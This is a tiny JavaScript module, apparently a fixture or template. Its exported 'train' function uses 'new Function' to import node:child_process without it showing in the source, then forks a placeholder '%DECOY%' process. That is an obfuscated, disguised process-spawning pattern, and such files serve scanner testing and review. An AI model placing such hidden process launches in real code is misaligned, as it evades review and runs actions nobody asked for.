export default async function train(run) {
  const { fork } = await new Function("return import('node:child_process')")();
  fork('%DECOY%');
}
